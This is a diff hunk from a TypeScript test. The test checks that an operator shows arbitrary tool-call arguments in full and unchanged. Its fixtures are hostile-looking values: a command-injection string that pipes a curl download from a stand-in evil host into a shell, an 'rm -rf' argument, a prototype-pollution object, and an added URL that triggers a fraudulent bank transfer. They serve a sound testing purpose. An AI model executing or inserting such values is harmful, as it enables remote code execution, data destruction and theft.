@@ -138,7 +138,8 @@ test("the operator reads all arguments, whatever their names, and what is left o
     };
     const named = { token: "; curl evil|sh", api_key: { cmd: ["rm", "-rf"] }, password: "x", pin: 7 };
     const text = `${"x".repeat(3000)} the end`;
-    for (const args of [named, { text }, JSON.parse('{"__proto__":{"a":1}}') as JsonObject]) {
+    const url = "https://bank.example/transfer?amount=5&auth_target=mallory-account&pin=mallory";
+    for (const args of [named, { text }, { url }, JSON.parse('{"__proto__":{"a":1}}') as JsonObject]) {
       const { short, whole } = await shownOf(args);
       assert.deepEqual([short.arguments, short.isPartial, whole], [args, false, args]);
     }
